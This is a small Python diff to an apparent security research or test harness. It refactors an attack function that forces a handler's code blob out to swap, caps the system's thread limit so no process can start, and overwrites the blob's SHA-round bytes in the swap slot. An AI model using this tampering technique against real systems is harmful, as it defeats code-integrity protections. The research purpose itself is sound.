@@ -135,6 +135,8 @@ def swappable(attacker: Attacker) -> int:
 def blob_swap_tamper(attacker: Attacker, handler: Handler) -> None:
     """Have the blob swapped out while no handler runs, and rewrite the code of the next one."""
     swap = SwapDevice(attacker, pages=swappable(attacker))
+    offset = handler.offset("sha_round") % PAGE
+    find = swap.finder(offset, FIRST_ROUNDS)  # later no process can be started
     with attacker.setup():
         limit = attacker.read_file(THREADS_MAX)
     try:
@@ -144,9 +146,8 @@ def blob_swap_tamper(attacker: Attacker, handler: Handler) -> None:
             raise
     else:
         attacker.write_file(THREADS_MAX, b"1")  # and no new one starts
-    offset = handler.offset("sha_round") % PAGE
     try:
-        slot = swap.push_out(lambda page: page.startswith(FIRST_ROUNDS, offset))
+        slot = swap.push_out(find)
     except StaysInMemory as error:
         raise NoTarget("the blob is not swapped out") from error
     swap.rewrite(slot, offset, bytes(len(FIRST_ROUNDS)))
